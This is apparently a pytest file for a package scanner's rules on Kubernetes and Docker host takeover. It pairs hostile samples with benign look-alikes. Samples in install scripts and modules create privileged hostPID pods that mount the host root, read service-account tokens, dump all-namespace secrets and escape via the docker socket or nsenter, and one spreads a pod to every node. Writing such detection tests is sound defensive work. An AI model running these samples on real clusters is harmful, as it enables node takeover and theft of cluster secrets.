"""Lateral movement family: Kubernetes and Docker host takeover. Samples are inert text."""

from __future__ import annotations

import pytest

from depvet.model import Severity
from tests.conftest import ScanFiles, rule_ids

SETUP_HEAD = "import os, subprocess, requests\nfrom setuptools import setup\n"
POD_YAML = (
    "apiVersion: v1\nkind: Pod\nmetadata:\n  name: node-setup\n  namespace: kube-system\nspec:\n"
    "  hostPID: true\n  hostNetwork: true\n  containers:\n  - name: x\n    image: alpine:latest\n"
    "    securityContext:\n      privileged: true\n    volumeMounts:\n    - name: host\n"
    "      mountPath: /host\n  volumes:\n  - name: host\n    hostPath:\n      path: /\n"
)

MUST_TRIGGER: list[tuple[str, dict[str, str]]] = [
    (
        "DV701",
        {
            "setup.py": SETUP_HEAD
            + f"POD = '''{POD_YAML}'''\n"
            + "subprocess.run(['kubectl', 'apply', '-f', '-'], input=POD.encode())\nsetup(name='x')\n"
        },
    ),
    (
        "DV701",
        {
            "k8sx/__init__.py": (
                "from kubernetes import client\nv1 = client.CoreV1Api()\n"
                "spec = client.V1PodSpec(host_pid=True,\n"
                "    containers=[client.V1Container(name='x', image='alpine',\n"
                "    security_context=client.V1SecurityContext(privileged=True))],\n"
                "    volumes=[client.V1Volume(name='h',\n"
                "                             host_path=client.V1HostPathVolumeSource(path='/'))])\n"
                "pod = client.V1Pod(metadata=client.V1ObjectMeta(name='node-setup'), spec=spec)\n"
                "v1.create_namespaced_pod('kube-system', pod)\n"
            )
        },
    ),
    (
        "DV701",
        {
            "setup.py": SETUP_HEAD
            + "api = 'https://' + os.environ['KUBERNETES_SERVICE_HOST']\n"
            + "ds = {'kind': 'DaemonSet', 'spec': {'template': {'spec': {'hostPID': True,\n"
            + "      'containers': [{'name': 'x', 'securityContext': {'privileged': True}}]}}}}\n"
            + "url = api + '/apis/apps/v1/namespaces/kube-system/daemonsets'\n"
            + "requests.post(url, json=ds, verify=False)\n"
        },
    ),
    (
        "DV701",
        {
            "deploy.sh": (
                "#!/bin/sh\nkubectl run pwn --image=alpine --overrides="
                '\'{"spec":{"hostPID":true,"containers":[{"name":"x","securityContext":{"privileged":true}}]}}\'\n'
            )
        },
    ),
    (
        "DV702",
        {
            "nodex/__init__.py": (
                "import subprocess\n"
                "SPEC = {'volumes': [{'name': 'root', 'hostPath': {'path': '/'}}],\n"
                "        'containers': [{'name': 'x', 'image': 'alpine'}]}\n"
            )
        },
    ),
    (
        "DV703",
        {
            "setup.py": SETUP_HEAD
            + "TOKEN_FILE = '/var/run/secrets/kubernetes.io/serviceaccount/token'\n"
            + "tok = open(TOKEN_FILE).read().strip()\n"
            + "pods = subprocess.check_output(['kubectl', '--token', tok, 'get', 'pods', '-A'])\n"
            + "setup(name='x')\n"
        },
    ),
    (
        "DV703",
        {
            "steal.sh": (
                "#!/bin/sh\nTOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\n"
                'curl -sk -H "Authorization: Bearer $TOKEN" https://kubernetes.default.svc/api/v1/secrets\n'
            )
        },
    ),
    (
        "DV704",
        {
            "k8sx/__init__.py": (
                "from kubernetes import client, config\nconfig.load_incluster_config()\n"
                "ALL = client.CoreV1Api().list_secret_for_all_namespaces()\n"
            )
        },
    ),
    (
        "DV704",
        {
            "setup.py": SETUP_HEAD
            + "api = 'https://kubernetes.default.svc'\n"
            + "secrets = requests.get(api + '/api/v1/secrets', verify=False).json()\nsetup(name='x')\n"
        },
    ),
    ("DV704", {"dump.sh": "#!/bin/sh\nkubectl get secret -A -o yaml > /tmp/s\n"}),
    (
        "DV705",
        {
            "setup.py": SETUP_HEAD
            + "os.system('docker run --rm -v /:/host alpine chroot /host sh -c id')\nsetup(name='x')\n"
        },
    ),
    (
        "DV705",
        {
            "dockx/__init__.py": (
                "import docker\nc = docker.from_env()\n"
                "c.containers.run('alpine', 'nsenter -t 1 -m sh', privileged=True,\n"
                "                 pid_mode='host', detach=True)\n"
            )
        },
    ),
    (
        "DV705",
        {
            "dockx/__init__.py": (
                "import docker\napi = docker.APIClient()\nhc = api.create_host_config(binds=['/:/mnt'])\n"
            )
        },
    ),
    (
        "DV706",
        {
            "dockx/__init__.py": (
                "import requests_unixsocket, requests\ns = requests_unixsocket.Session()\n"
                "info = s.get('http+unix://%2Fvar%2Frun%2Fdocker.sock/info').json()\n"
            )
        },
    ),
    (
        "DV706",
        {"ps.sh": "#!/bin/sh\ncurl --unix-socket /var/run/docker.sock http://localhost/containers/json\n"},
    ),
]

MUST_NOT_TRIGGER: list[tuple[str, dict[str, str]]] = [
    (
        "DV701",
        {
            "setup.py": SETUP_HEAD
            + "POD = '''apiVersion: v1\\nkind: Pod\\nspec:\\n  containers:\\n"
            + "  - name: x\\n    image: nginx\\n'''\n"
            + "subprocess.run(['kubectl', 'apply', '-f', '-'], input=POD.encode())\nsetup(name='x')\n"
        },
    ),
    (
        "DV701",
        {
            "k8sx/__init__.py": (
                "from kubernetes import client\n\ndef make(api):\n"
                "    sc = client.V1SecurityContext(privileged=True)\n"
                "    box = client.V1Container(name='dind', security_context=sc)\n"
                "    spec = client.V1PodSpec(containers=[box])\n"
                "    return api.create_namespaced_pod('ci', client.V1Pod(spec=spec))\n"
            )
        },
    ),
    (
        "DV702",
        {
            "k8sx/__init__.py": (
                "import subprocess\n\ndef doc():\n"
                "    '''Never set hostPID: true or privileged: true in your pods.'''\n    return None\n"
            )
        },
    ),
    (
        "DV703",
        {
            "k8sx/__init__.py": (
                "import requests\nAPI = 'https://kubernetes.default.svc'\n\n"
                "def pods(token):\n    return requests.get(API + '/api/v1/namespaces/app/pods',\n"
                "                        headers={'Authorization': 'Bearer ' + token})\n"
            )
        },
    ),
    (
        "DV704",
        {
            "k8sx/__init__.py": (
                "from kubernetes import client\n\ndef mine(api):\n"
                "    return api.list_namespaced_secret('myapp')\n"
            )
        },
    ),
    ("DV704", {"ops.sh": "#!/bin/sh\nkubectl get secrets -n myapp\n"}),
    (
        "DV705",
        {
            "setup.py": SETUP_HEAD
            + "subprocess.check_call(['docker', 'run', '--rm', '--privileged', 'multiarch/qemu-user-static',"
            + " '--reset', '-p', 'yes'])\nsetup(name='x')\n"
        },
    ),
    (
        "DV705",
        {
            "dockx/__init__.py": (
                "import docker\n\ndef test_db(tmp):\n    c = docker.from_env()\n"
                "    return c.containers.run('postgres', volumes={tmp: {'bind': '/var/lib/postgresql'}})\n"
            )
        },
    ),
    (
        "DV706",
        {
            "dockx/__init__.py": (
                "import docker\nDEFAULT = 'unix:///var/run/docker.sock'\n\n"
                "def client():\n    return docker.DockerClient(base_url=DEFAULT)\n"
            )
        },
    ),
]


@pytest.mark.parametrize(
    ("rule_id", "files"), MUST_TRIGGER, ids=[f"{r}-{i}" for i, (r, _) in enumerate(MUST_TRIGGER)]
)
def test_must_trigger(rule_id: str, files: dict[str, str], scan_files: ScanFiles) -> None:
    result = scan_files(files)
    assert rule_id in rule_ids(result), [f"{f.rule_id} {f.evidence}" for f in result.findings]


@pytest.mark.parametrize(
    ("rule_id", "files"), MUST_NOT_TRIGGER, ids=[f"{r}-{i}" for i, (r, _) in enumerate(MUST_NOT_TRIGGER)]
)
def test_benign_look_alike(rule_id: str, files: dict[str, str], scan_files: ScanFiles) -> None:
    result = scan_files(files)
    assert rule_id not in rule_ids(result), [f"{f.rule_id} {f.evidence}" for f in result.findings]


def test_litellm_style_node_takeover_is_critical(scan_files: ScanFiles) -> None:
    code = (
        "import os, json, requests\n"
        "TOKEN = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n"
        "API = 'https://' + os.environ['KUBERNETES_SERVICE_HOST']\n"
        "H = {'Authorization': 'Bearer ' + TOKEN}\n"
        "nodes = requests.get(API + '/api/v1/nodes', headers=H, verify=False).json()['items']\n"
        "for node in nodes:\n"
        "    name = node['metadata']['name']\n"
        "    pod = {'metadata': {'name': 'node-setup-' + name, 'namespace': 'kube-system'},\n"
        "           'spec': {'nodeName': name, 'hostPID': True, 'hostNetwork': True,\n"
        "                    'tolerations': [{'operator': 'Exists'}],\n"
        "                    'containers': [{'name': 'setup', 'image': 'alpine:latest',\n"
        "                                    'securityContext': {'privileged': True},\n"
        "                                    'volumeMounts': [{'name': 'host', 'mountPath': '/host'}]}],\n"
        "                    'volumes': [{'name': 'host', 'hostPath': {'path': '/'}}]}}\n"
        "    requests.post(API + '/api/v1/namespaces/kube-system/pods', headers=H, json=pod, verify=False)\n"
    )
    result = scan_files({"litellm_like/proxy_server.py": code})
    ids = rule_ids(result)
    assert {"DV701", "DV703", "DV303"} <= ids
    assert any(f.rule_id == "DV701" and f.severity is Severity.CRITICAL for f in result.findings)


def test_in_cluster_client_config_is_not_high(scan_files: ScanFiles) -> None:
    # What the kubernetes client's in-cluster loader does, inside functions.
    code = (
        "import os\nSERVICE_TOKEN_FILENAME = '/var/run/secrets/kubernetes.io/serviceaccount/token'\n"
        "SERVICE_HOST_ENV_NAME = 'KUBERNETES_SERVICE_HOST'\n\n"
        "class InClusterConfigLoader:\n"
        "    def __init__(self, token_filename):\n        self._token_filename = token_filename\n"
        "    def load(self):\n        host = os.environ[SERVICE_HOST_ENV_NAME]\n"
        "        with open(self._token_filename) as f:\n            return host, f.read()\n\n"
        "def load_incluster_config():\n"
        "    return InClusterConfigLoader(token_filename=SERVICE_TOKEN_FILENAME).load()\n"
    )
    result = scan_files({"kubernetes/config/incluster_config.py": code})
    assert all(f.severity.rank < Severity.HIGH.rank for f in result.findings), result.findings
